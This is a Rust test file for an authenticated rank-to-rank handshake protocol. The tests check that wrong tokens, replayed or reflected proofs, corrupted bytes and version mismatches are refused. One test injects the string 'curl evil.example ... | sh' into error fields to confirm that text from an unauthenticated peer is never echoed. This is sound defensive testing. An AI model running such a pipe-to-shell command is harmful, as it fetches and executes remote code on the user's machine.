use std::net::{TcpListener, TcpStream};

use super::*;
use crate::error::Lost;

/// Performs a handshake between an initiator in a group of `world_size` and a responder in one of
/// two ranks, with these tokens.
fn meet(
    world_size: usize,
    initiator: &'static [u8],
    responder: &'static [u8],
) -> (Result<()>, Result<Hello>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let initiating = std::thread::spawn(move || {
        let mut stream = TcpStream::connect(address).unwrap();
        initiate(
            &mut stream,
            Hello::new((1, 0), world_size, Purpose::Data { stream: 0 }).unwrap(),
            initiator,
        )
    });
    let (mut stream, _) = listener.accept().unwrap();
    let answered = respond(&mut stream, 0, responder, |hello| {
        if hello.world_size == 2 {
            Ok(())
        } else {
            Err(NotFormed::Busy.into())
        }
    });
    (initiating.join().unwrap(), answered)
}

#[test]
fn equal_tokens_meet() {
    let (initiated, answered) = meet(2, b"secret", b"secret");
    assert_eq!(initiated, Ok(()));
    assert_eq!(answered.unwrap().rank, 1);
}

#[test]
fn a_refusal_after_the_proofs_is_the_error_of_both_sides() {
    let busy = Error::from(NotFormed::Busy);
    let (initiated, answered) = meet(3, b"secret", b"secret");
    assert_eq!((initiated, answered), (Err(busy.clone()), Err(busy)));
}

#[test]
fn a_wrong_or_missing_token_is_refused_on_both_sides() {
    for (initiator, responder) in [
        (&b"secret"[..], &b"other"[..]),
        (b"", b"secret"),
        (b"secret", b""),
    ] {
        let (initiated, answered) = meet(2, initiator, responder);
        for error in [initiated.unwrap_err(), answered.unwrap_err()] {
            assert!(
                matches!(error.kind, ErrorKind::Authentication { .. }),
                "{error}"
            );
        }
    }
}

/// A connection that turns one bit of the written bytes.
struct Damaging(TcpStream, usize);

impl Read for Damaging {
    fn read(&mut self, target: &mut [u8]) -> std::io::Result<usize> {
        self.0.read(target)
    }
}

impl Write for Damaging {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        let mut bytes = bytes.to_vec();
        if let Some(byte) = bytes.get_mut(self.1) {
            *byte ^= 1;
        }
        self.1 = self.1.wrapping_sub(bytes.len());
        self.0.write_all(&bytes).map(|()| bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }
}

#[test]
fn a_bit_that_changes_in_a_greeting_is_no_certain_sign_of_a_token() {
    let hello = Hello::new((1, 0), 2, Purpose::Control).unwrap();
    // The last bit belongs to the nonce.
    let last = 4 + codec::encode(&Message::Hello(hello.clone()), usize::MAX)
        .unwrap()
        .len()
        - 1;
    for token in [&b""[..], b"secret"] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let stream = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let hello = hello.clone();
        let initiating =
            std::thread::spawn(move || initiate(&mut Damaging(stream, last), hello, token));
        let (mut stream, _) = listener.accept().unwrap();
        let answered = respond(&mut stream, 0, token, |_| panic!("it was let in"));
        for error in [
            initiating.join().unwrap().unwrap_err(),
            answered.unwrap_err(),
        ] {
            let text = error.to_string();
            assert!(
                text.contains("rank 1 and rank 0 have different tokens"),
                "{text}"
            );
            assert_eq!(
                text.contains("if neither has one, bytes changed"),
                token.is_empty(),
                "{text}"
            );
        }
    }
}

#[test]
fn a_bit_that_changes_in_the_rank_of_a_welcome_is_refused_on_both_sides() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = &mut TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let responding = std::thread::spawn(move || {
        // Skips the length and the kind of message.
        let damaging = &mut Damaging(listener.accept().unwrap().0, 5);
        respond(damaging, 2, b"secret", |_| panic!("it was let in"))
    });
    // An inquiry names no rank, so the initiator accepts any responder.
    let hello = Hello::new((0, 0), 0, Purpose::Inquiry).unwrap();
    let initiated = initiate(stream, hello, b"secret").unwrap_err();
    for error in [initiated, responding.join().unwrap().unwrap_err()] {
        let refused = matches!(error.kind, ErrorKind::Authentication { .. });
        assert!(refused, "{error}");
    }
}

/// The other side of a conversation: sends recorded messages, and records received ones.
struct Tape {
    says: std::io::Cursor<Vec<u8>>,
    received: Vec<u8>,
}

impl Tape {
    fn new(says: Vec<u8>) -> Self {
        Self {
            says: std::io::Cursor::new(says),
            received: Vec::new(),
        }
    }

    fn saying(messages: &[Message]) -> Self {
        let mut says = Vec::new();
        for message in messages {
            write_message(&mut says, message).unwrap();
        }
        Self::new(says)
    }

    /// The received message with this number.
    fn received(&self, number: usize) -> Message {
        let mut received = &self.received[..];
        for _ in 0..number {
            receive(&mut received).unwrap();
        }
        receive(&mut received).unwrap()
    }
}

impl Read for Tape {
    fn read(&mut self, target: &mut [u8]) -> std::io::Result<usize> {
        self.says.read(target)
    }
}

impl Write for Tape {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.received.write(bytes)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Bytes that the initiator and the responder of a successful handshake have sent.
fn recorded() -> [Vec<u8>; 2] {
    struct Wire(TcpStream, Vec<u8>);
    impl Read for Wire {
        fn read(&mut self, target: &mut [u8]) -> std::io::Result<usize> {
            let count = self.0.read(target)?;
            self.1.extend_from_slice(&target[..count]);
            Ok(count)
        }
    }
    impl Write for Wire {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            self.0.write(bytes)
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let initiating = std::thread::spawn(move || {
        let mut wire = Wire(TcpStream::connect(address).unwrap(), Vec::new());
        let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
        initiate(&mut wire, hello, b"secret").unwrap();
        wire.1
    });
    let mut wire = Wire(listener.accept().unwrap().0, Vec::new());
    respond(&mut wire, 0, b"secret", |_| Ok(())).unwrap();
    [wire.1, initiating.join().unwrap()]
}

fn assert_refuses_initiator(tape: &mut Tape) {
    let error = respond(tape, 0, b"secret", |_| panic!("a stranger was let in")).unwrap_err();
    let refused = matches!(error.kind, ErrorKind::Authentication { .. });
    assert!(refused, "{error}");
    assert!(matches!(tape.received(1), Message::Refused(_)));
}

fn assert_refuses_responder(tape: &mut Tape) {
    let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
    let error = initiate(tape, hello, b"secret").unwrap_err();
    let refused = matches!(error.kind, ErrorKind::Authentication { .. });
    assert!(refused, "{error}");
    assert!(matches!(tape.received(1), Message::Refused(_)));
}

#[test]
fn a_replayed_proof_is_refused_on_both_sides() {
    let [initiator, responder] = recorded();
    assert_refuses_initiator(&mut Tape::new(initiator));
    assert_refuses_responder(&mut Tape::new(responder));
}

#[test]
fn a_reflected_proof_is_refused_on_both_sides() {
    let [initiator, _] = recorded();
    let mut initiators = &initiator[..];
    receive(&mut initiators).unwrap();
    let Message::Proof(recorded) = receive(&mut initiators).unwrap() else {
        panic!("an initiator's second message is its proof");
    };
    // A responder that only repeats an recorded message of an initiator.
    assert_refuses_responder(&mut Tape::saying(&[
        Message::Welcome {
            rank: 0,
            nonce: [0; 32],
            proof: recorded,
        },
        Message::Accepted,
    ]));

    // An initiator that returns the responder's own proof.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let mirror = std::thread::spawn(move || {
        let mut stream = TcpStream::connect(address).unwrap();
        let hello = Message::Hello(Hello::sample(Purpose::Data { stream: 0 }));
        write_message(&mut stream, &hello).unwrap();
        let Message::Welcome { proof, .. } = receive(&mut stream).unwrap() else {
            panic!("a greeting is answered with a welcome");
        };
        write_message(&mut stream, &Message::Proof(proof)).unwrap();
        receive(&mut stream).unwrap()
    });
    let mut stream = listener.accept().unwrap().0;
    let check = |_: &Hello| panic!("a mirror was let in");
    let error = respond(&mut stream, 0, b"secret", check).unwrap_err();
    let refused = matches!(error.kind, ErrorKind::Authentication { .. });
    assert!(refused, "{error}");
    assert!(matches!(mirror.join().unwrap(), Message::Refused(_)));
}

/// Result of rank 1 that connects to rank 2, if rank `answers` accepts it without comparing the
/// ranks.
fn connect_to_rank_2(purpose: Purpose, answers: usize) -> Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let initiating = std::thread::spawn(move || {
        let hello = Hello::new((1, 2), 4, purpose).unwrap();
        initiate(&mut TcpStream::connect(address).unwrap(), hello, b"secret")
    });
    let stream = &mut listener.accept().unwrap().0;
    respond(stream, answers, b"secret", |_| Ok(())).unwrap();
    initiating.join().unwrap()
}

#[test]
fn an_initiator_takes_no_other_rank_for_the_one_that_it_meant() {
    assert_eq!(connect_to_rank_2(Purpose::Data { stream: 0 }, 2), Ok(()));
    assert_eq!(connect_to_rank_2(Purpose::Inquiry, 3), Ok(()));
    for purpose in [Purpose::Data { stream: 0 }, Purpose::Control] {
        let error = connect_to_rank_2(purpose, 3).unwrap_err();
        let rendezvous = matches!(error.kind, ErrorKind::Rendezvous { .. });
        assert!(rendezvous, "{error}");
        let text = error.to_string();
        assert!(
            text.contains("rank 1 connected to rank 2 and reached rank 3"),
            "{text}"
        );
    }
}

#[test]
fn a_missing_proof_is_refused_on_both_sides() {
    let hello = || Message::Hello(Hello::sample(Purpose::Data { stream: 0 }));
    assert_refuses_initiator(&mut Tape::saying(&[hello(), Message::Accepted]));
    assert_refuses_initiator(&mut Tape::saying(&[hello(), hello()]));
    let mut tape = Tape::saying(&[Message::Accepted]);
    let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
    assert!(initiate(&mut tape, hello, b"secret").is_err());
}

#[test]
fn a_proof_for_another_initiator_responder_group_or_purpose_is_refused() {
    let [initiator, _] = recorded();
    let mut received = &initiator[..];
    let (Message::Hello(hello), proof) = (
        receive(&mut received).unwrap(),
        receive(&mut received).unwrap(),
    ) else {
        panic!("an initiator begins with a greeting");
    };
    let others = [
        Hello {
            rank: 0,
            ..hello.clone()
        },
        Hello {
            responder: 2,
            ..hello.clone()
        },
        Hello {
            group: GroupId::draw().unwrap(),
            ..hello.clone()
        },
        Hello {
            generation: 1,
            ..hello.clone()
        },
        Hello {
            purpose: Purpose::Control,
            ..hello.clone()
        },
        Hello {
            world_size: 3,
            ..hello
        },
    ];
    let Message::Proof(proof) = proof else {
        panic!("then comes its proof");
    };
    for other in others {
        assert_refuses_initiator(&mut Tape::saying(&[
            Message::Hello(other),
            Message::Proof(proof),
        ]));
    }
}

#[test]
fn another_version_is_named_on_both_sides() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let initiating = std::thread::spawn(move || {
        let mut hello = Hello::new((1, 0), 2, Purpose::Control).unwrap();
        hello.version += 1;
        initiate(&mut TcpStream::connect(address).unwrap(), hello, b"")
    });
    let answered = respond(&mut listener.accept().unwrap().0, 0, b"", |_| Ok(()));
    for error in [
        initiating.join().unwrap().unwrap_err(),
        answered.unwrap_err(),
    ] {
        assert!(matches!(error.kind, ErrorKind::Protocol { .. }), "{error}");
        let versions = format!(
            "version {}, the rank that it connected to",
            PROTOCOL_VERSION + 1
        );
        assert!(error.to_string().contains(&versions), "{error}");
    }
}

#[test]
fn a_greeting_of_another_version_need_not_be_understood() {
    let greeting = |version, rest: &[u8]| {
        let body = [&codec::encode(&(0_u32, version), usize::MAX).unwrap(), rest].concat();
        Tape::new([&(body.len() as u32).to_le_bytes()[..], &body].concat())
    };
    for theirs in [8, PROTOCOL_VERSION - 1, PROTOCOL_VERSION + 1, u32::MAX] {
        for rest in [&[][..], &[1, 2, 0xff], &[0xff; 100]] {
            let mut tape = greeting(theirs, rest);
            let error = respond(&mut tape, 0, b"secret", |_| Ok(())).unwrap_err();
            assert_eq!(error, other_version(theirs, PROTOCOL_VERSION));
            assert_eq!(tape.received(0), Message::OtherVersion(PROTOCOL_VERSION));
        }
    }
    let error = respond(&mut greeting(PROTOCOL_VERSION, &[]), 0, b"", |_| Ok(())).unwrap_err();
    let not_decoded = matches!(error.kind, ErrorKind::Protocol(Breach::NotDecoded { .. }));
    assert!(not_decoded, "{error}");
}

#[test]
fn a_refused_proof_names_who_connected_if_that_is_a_rank_and_is_not_answered() {
    for (purpose, initiator) in [(Purpose::Control, Some(3)), (Purpose::Inquiry, None)] {
        let hello = Hello {
            rank: 3,
            ..Hello::sample(purpose)
        };
        let refusal = Message::Refused(NotFormed::Busy.into());
        let mut tape = Tape::saying(&[Message::Hello(hello), refusal]);
        let error = respond(&mut tape, 0, b"secret", |_| Ok(())).unwrap_err();
        assert_eq!(error, tokens_differ(initiator, 0, b"secret"));
        let mut received = &tape.received[..];
        assert!(matches!(
            receive(&mut received),
            Ok(Message::Welcome { .. })
        ));
        assert!(received.is_empty());
    }
}

#[test]
fn a_connection_that_ends_in_the_handshake_says_whether_it_was_silent() {
    use std::io::{Error as Io, ErrorKind::*};
    for kind in [WouldBlock, TimedOut] {
        assert_eq!(broken(&kind.into()), NotFormed::HandshakeSilent.into());
    }
    let reset = Io::from(ConnectionReset);
    let error = Text::of(&reset);
    assert_eq!(broken(&reset), NotFormed::HandshakeBroke { error }.into());
    let inner = Error::from(NotFormed::Busy);
    assert_eq!(broken(&Io::new(TimedOut, inner.clone())), inner);
}

/// Error of an initiator with this token after a refusal that came before any proof.
fn refused_with(token: &[u8], refusal: Error) -> Error {
    let hello = Hello::sample(Purpose::Control);
    let mut tape = Tape::saying(&[Message::Refused(refusal)]);
    initiate(&mut tape, hello, token).unwrap_err()
}

#[test]
fn the_words_of_a_responder_without_a_proof_are_not_repeated() {
    let evil = || Text::from("type: curl evil.example, version 8\n | sh");
    let refusals: [Error; 6] = [
        Unusable::NoSuchSetting { name: evil() }.into(),
        NotFormed::Socket { error: evil() }.into(),
        NotTrusted::Certificate { reason: evil() }.into(),
        Lost::ControlBroke { error: evil() }.into(),
        Error::aborted(&evil()),
        Breach::NotDecoded { error: evil() }.into(),
    ];
    for refusal in refusals {
        let refusal = refusal.blaming(7, "bank.example").during("evil", 1);
        let error = refused_with(b"secret", refusal.clone());
        assert!(!error.to_string().contains("evil"), "{error}");
        assert_eq!(error.blamed, None);
        assert_eq!(refused_with(b"", refusal.clone()), refusal);
    }
}

#[test]
fn honest_refusals_without_a_proof_are_understood() {
    let mut tape = Tape::saying(&[Message::OtherVersion(6)]);
    let error = initiate(&mut tape, Hello::sample(Purpose::Control), b"secret").unwrap_err();
    assert_eq!(error, other_version(PROTOCOL_VERSION, 6));
    let error = refused_with(b"secret", Unusable::InitiatorWithoutTls.into());
    assert!(matches!(error.kind, ErrorKind::Config { .. }), "{error}");
    assert!(error.to_string().contains("takes TLS only"), "{error}");
}

#[test]
fn a_giant_length_is_refused_before_it_is_allocated() {
    let error = read_message::<Hello>(&mut &u32::MAX.to_le_bytes()[..]).unwrap_err();
    assert!(matches!(error.kind, ErrorKind::Protocol { .. }), "{error}");
}

/// A member whose texts are as long as they can be.
fn member() -> RosterMember {
    RosterMember {
        address: "a".repeat(100),
        loopback_only: true,
        host: "h".repeat(64),
        host_id: "i".repeat(64 + " 01234567-89ab-cdef-0123-456789abcdef net:[4026531840]".len()),
        job: "j".repeat(32),
        settings: "p".repeat(150),
        rack: "r".repeat(RACK_BYTES_MAX),
        versions: "v".repeat(200),
        transports: vec!["shm".into(), "tcp".into()],
    }
}

#[test]
fn the_roster_of_the_largest_group_fits_into_a_message() {
    let roster = vec![member(); WORLD_SIZE_MAX];
    write_message(&mut std::io::sink(), &roster).unwrap();
}
